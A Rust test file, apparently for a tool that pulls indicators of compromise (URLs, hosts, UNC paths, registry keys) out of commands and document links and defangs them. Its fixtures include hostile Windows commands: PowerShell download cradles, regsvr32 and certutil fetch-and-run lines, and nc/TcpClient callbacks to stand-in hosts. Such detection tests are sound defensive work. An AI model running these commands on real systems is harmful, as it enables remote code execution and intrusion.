//! What texts and targets name.

use super::*;
use IndicatorKind::*;

/// As of a known program; the span of everything that is quoted in full selects it.
fn checked(text: &str) -> Vec<Indicator> {
    let mut found = Indicators {
        bare: true,
        ..Indicators::default()
    };
    found.text(text, Origin::Topic);
    for named in &found.list {
        let span = &text[named.source.start..named.source.end];
        if named.kind != RegistryValue {
            assert_eq!(span, named.value, "{text}");
        }
    }
    found.list
}

fn of_target(target: &str) -> Vec<Indicator> {
    let mut found = Indicators::default();
    found.target(target);
    found.list
}

fn hosts(text: &str) -> Vec<(IndicatorKind, String)> {
    let found = checked(text).into_iter();
    found
        .filter(|found| matches!(found.kind, Host | Ip))
        .map(|found| (found.kind, found.canonical.unwrap_or(found.value)))
        .collect()
}

fn of(text: &str) -> Vec<(IndicatorKind, String)> {
    let found = checked(text);
    found
        .into_iter()
        // Hosts stand beside their addresses: `hosts` has them.
        .filter(|found| !matches!(found.kind, Host | Ip))
        .map(|found| (found.kind, found.defanged))
        .collect()
}

fn target(text: &str) -> Vec<(IndicatorKind, String)> {
    let found = of_target(text);
    found
        .into_iter()
        .filter(|found| !matches!(found.kind, Host | Ip))
        .map(|found| (found.kind, found.defanged))
        .collect()
}

#[test]
fn published_commands() {
    assert_eq!(
        of(
            "-w Hidden IEX (New-Object System.Net.WebClient).DownloadString('http://a.b/a.ps1'); # "
        ),
        [(Url, "hxxp://a[.]b/a.ps1".into())]
    );
    assert_eq!(
        of("/k regsvr32 /s /n /u /i:http://x.y/a.sct scrobj.dll "),
        [(Url, "hxxp://x[.]y/a.sct".into())]
    );
    assert_eq!(
        of("/k certutil -urlcache -split -f http://x/a.exe && a.exe"),
        [(Url, "hxxp://x/a.exe".into()), (FilePath, "a.exe".into())]
    );
    assert_eq!(
        of("/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0"),
        [(Unc, "\\\\10[.]0[.]0[.]1\\3\\2\\1.dll".into())]
    );
    assert_eq!(
        of("/c start \\\\host.x@SSL@443\\DavWWWRoot\\a.exe"),
        [(Unc, "\\\\host[.]x@SSL@443\\DavWWWRoot\\a.exe".into())]
    );
    assert_eq!(of("/k calc.exe"), []);
    assert_eq!(of("c:\\\\windows\\\\system32\\\\cmd.exe"), []);
    assert_eq!(
        of("c:\\users\\x\\evil.hta"),
        [(FilePath, "c:\\users\\x\\evil.hta".into())]
    );
    assert_eq!(of("[Book1.xlsx]Sheet1"), []);
    assert_eq!(of("http://a/1 http://a/1"), [(Url, "hxxp://a/1".into())]);
}

#[test]
fn targets() {
    assert_eq!(
        target("mhtml:http://h.x/x.html!x-usc:http://h.x/x.html"),
        [(Url, "hxxp://h[.]x/x.html".into())]
    );
    assert_eq!(
        target("https://h/a.html!"),
        [(Url, "hxxps://h/a.html".into())]
    );
    assert_eq!(
        target("file:///\\\\host.x\\share\\a.dotm"),
        [(Unc, "\\\\host[.]x\\share\\a.dotm".into())]
    );
    assert_eq!(
        target("http://a.b/my%20file.docx"),
        [(Url, "hxxp://a[.]b/my%20file.docx".into())]
    );
    assert_eq!(target("%68ttp://a.b/x"), [(Url, "hxxp://a[.]b/x".into())]);
    assert_eq!(
        target("\\\\h.x\\my share\\a.doc"),
        [(Unc, "\\\\h[.]x\\my share\\a.doc".into())]
    );
    assert_eq!(
        target("file:///\\\\?\\UNC\\10.0.0.9\\s\\a.xlsx"),
        [(Unc, "\\\\10[.]0[.]0[.]9\\s\\a.xlsx".into())]
    );
    assert_eq!(target("Normal.dotm"), []);
}

#[test]
fn servers_behind_the_names_of_drivers() {
    for target in [
        "\\??\\UNC\\a.example\\s",
        "\\\\;LanmanRedirector\\a.example\\s",
    ] {
        let found = of_target(target);
        assert_eq!(found[0].value, "\\\\a.example\\s", "{target}");
    }
}

#[test]
fn many_addresses_are_bounded() {
    let text = (0..100_000)
        .map(|n| format!("http://h/{n} "))
        .collect::<String>();
    assert_eq!(checked(&text).len(), 256);
}

#[test]
fn hosts_of_addresses_and_alone() {
    let ip = |text: &str| (Ip, text.to_owned());
    let host = |text: &str| (Host, text.to_owned());
    for (text, found) in [
        (
            "IEX 'http://A.example/1' 'http://a.example:8080/2'",
            vec![host("a.example")],
        ),
        (
            "http://microsoft.com@evil.example/",
            vec![host("evil.example")],
        ),
        ("http://2130706433/ http://0x7f.1/", vec![ip("127.0.0.1")]),
        ("http://[2001:db8::1]:80/a", vec![ip("2001:db8::1")]),
        (
            "start \\\\h.example@SSL@443\\DavWWWRoot\\a.exe",
            vec![host("h.example")],
        ),
        (
            "ping 10.0.0.1 & nslookup evil.ru 8.8.8.8",
            vec![ip("10.0.0.1"), host("evil.ru"), ip("8.8.8.8")],
        ),
        (
            "curl evil.com/a.txt -o x; ssh root@10.1.1.1",
            vec![host("evil.com")],
        ),
        ("TcpClient('10.0.0.5',4444)", vec![ip("10.0.0.5")]),
        ("nc 10.0.0.5:4444", vec![ip("10.0.0.5")]),
        (
            "System.Net.WebClient v1.0 version 1.2.3.4 Version=1.2.3.4, 1.2.3.4.5 e.g. calc.exe",
            vec![],
        ),
        ("hxxp://evil.com/a hxxps://evil.com", vec![]),
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\winword.exe",
            vec![],
        ),
    ] {
        assert_eq!(hosts(text), found, "{text}");
    }
}

#[test]
fn ordinary_text_names_nothing() {
    for text in [
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\winword.exe",
        "C:\\windows\\system32\\cmd.exe",
        "/k calc.exe",
        "New-Object System.Net.WebClient; [System.IO.File]::ReadAllText",
        "hxxp://evil.example/a",
        "c:\\\\windows\\\\system32\\\\cmd.exe",
        "AAPL.O LAST 12:30:45",
    ] {
        assert_eq!(checked(text), [], "{text}");
    }
}

#[test]
fn lists_of_addresses() {
    assert_eq!(
        of("'http://a.example/1@http://b.example/2@https://c.example/3'.Split('@')"),
        [
            (Url, "hxxp://a[.]example/1".into()),
            (Url, "hxxp://b[.]example/2".into()),
            (Url, "hxxps://c[.]example/3".into())
        ]
    );
    assert_eq!(
        of("http://a.example/?u=http://b.example/"),
        [(Url, "hxxp://a[.]example/?u=http://b.example/".into())]
    );
}

#[test]
fn files_keys_and_mail() {
    assert_eq!(
        of("copy \"C:\\Users\\a b\\evil.exe\" x"),
        [(FilePath, "C:\\Users\\a b\\evil.exe".into())]
    );
    assert_eq!(
        of("/c \"C:\\windows\\system32\\cmd.exe /c http://a.example/x.exe\""),
        [(Url, "hxxp://a[.]example/x.exe".into())]
    );
    assert_eq!(
        of("Send-MailMessage -To a@b.example -Attachments %TEMP%\\a.zip"),
        [
            (Email, "a[@]b[.]example".into()),
            (FilePath, "%TEMP%\\a.zip".into())
        ]
    );
    assert_eq!(
        of("reg add HKCU\\Software\\X /v Y /d 1 & reg query HKLM\\Z"),
        [
            (RegistryValue, "HKCU\\Software\\X\\Y=1".into()),
            (RegistryKey, "HKLM\\Z".into())
        ]
    );
    assert_eq!(
        target("mailto:a@b.example?subject=x"),
        [(Email, "a[@]b[.]example".into())]
    );
}

#[test]
fn spans_are_those_of_the_text_before_normalisation() {
    let text = "c\0\0\u{ff4d}d \u{a0}http://\u{200b}a.b/\u{ff58} y";
    let found = indicators(text, Origin::Topic);
    assert_eq!(found[0].value, "http://a.b/x");
    let Source { start, end, .. } = found[0].source;
    assert_eq!(&text[start..end], "http://\u{200b}a.b/\u{ff58}");
    assert_eq!(&text[found[1].source.start..found[1].source.end], "a.b");
}

#[test]
fn canonical_spellings_and_their_technique() {
    let mut found = Indicators::default();
    found.text(
        "http://microsoft.com@0x7f.1/a HTTP://a.example/",
        Origin::Topic,
    );
    assert_eq!(
        found.list[0].canonical.as_deref(),
        Some("http://127.0.0.1/a")
    );
    assert_eq!(found.list[0].defanged, "hxxp://microsoft[.]com@0x7f[.]1/a");
    assert_eq!(
        found.list[2].canonical.as_deref(),
        Some("http://a.example/")
    );
    assert_eq!(found.disguises.len(), 1);
    assert_eq!(
        found.disguises[0].after.as_deref(),
        Some("http://127.0.0.1/a")
    );
}

#[test]
fn every_text_of_a_command() {
    let stage = |script: &str, stages| Stage {
        image: Some("x.exe".into()),
        arguments: Some("http://same.example/".into()),
        script: Some(script.into()),
        stages,
    };
    let inner = stage("http://c.example/", Vec::new());
    let command = Command {
        line: String::new(),
        image: Some("cmd.exe".into()),
        arguments: Some("http://a.example/".into()),
        script: Some("http://b.example/".into()),
        stages: vec![
            stage("", Vec::new()),
            stage("http://d.example/", vec![inner]),
        ],
    };
    let mut found = Indicators::of(Some(&command));
    found.command(&command);
    let urls: Vec<_> = found
        .list
        .iter()
        .filter(|named| named.kind == Url)
        .map(|named| format!("{} {}", named.source.text, named.value))
        .collect();
    assert_eq!(
        urls,
        [
            "arguments http://a.example/",
            "script http://b.example/",
            "stages[0].arguments http://same.example/",
            "stages[1].script http://d.example/",
            "stages[1].stages[0].script http://c.example/",
        ]
    );
}
